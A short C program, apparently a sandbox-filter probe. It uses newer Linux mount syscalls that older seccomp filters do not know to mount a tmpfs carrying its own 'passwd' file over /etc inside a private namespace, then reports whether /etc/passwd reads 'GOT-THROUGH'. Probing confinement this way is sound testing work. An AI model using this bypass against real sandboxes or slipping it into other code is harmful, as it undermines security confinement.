/* Puts a file of its own over /etc/passwd by the calls for mounts that old filters do not know, and shows what is
   there then. Every step that fails is named. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static int step(const char *name, long result) {
    if (result < 0) printf("%s: %s\n", name, strerror(errno));
    return (int)result;
}

/* Makes the user one of the new namespace, so that files can be made in it. */
static void map(const char *file, const char *format, unsigned id) {
    char text[32];
    snprintf(text, sizeof text, format, id, id);
    int opened = open(file, O_WRONLY);
    step(file, write(opened, text, strlen(text)));
    close(opened);
}

int main(void) {
    unsigned user = getuid(), group = getgid();
    step("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS));
    map("/proc/self/uid_map", "%u %u 1", user);
    map("/proc/self/setgroups", "deny", 0);
    map("/proc/self/gid_map", "%u %u 1", group);
    int context = step("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    step("fsconfig", syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0));
    int mount = step("fsmount", syscall(SYS_fsmount, context, 0, 0));
    int file = openat(mount, "passwd", O_WRONLY | O_CREAT, 0644);
    if (file >= 0) step("write", write(file, "GOT-THROUGH\n", 12));
    step("move_mount", syscall(SYS_move_mount, mount, "", AT_FDCWD, "/etc", MOVE_MOUNT_F_EMPTY_PATH));
    step("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/usr", OPEN_TREE_CLONE));
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_NODEV};
    step("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/etc", 0, &writable, sizeof writable));
    char text[16] = "";
    int seen = open("/etc/passwd", O_RDONLY);
    if (read(seen, text, sizeof text - 1) > 0) printf("/etc/passwd: %s\n", text);
    return 0;
}
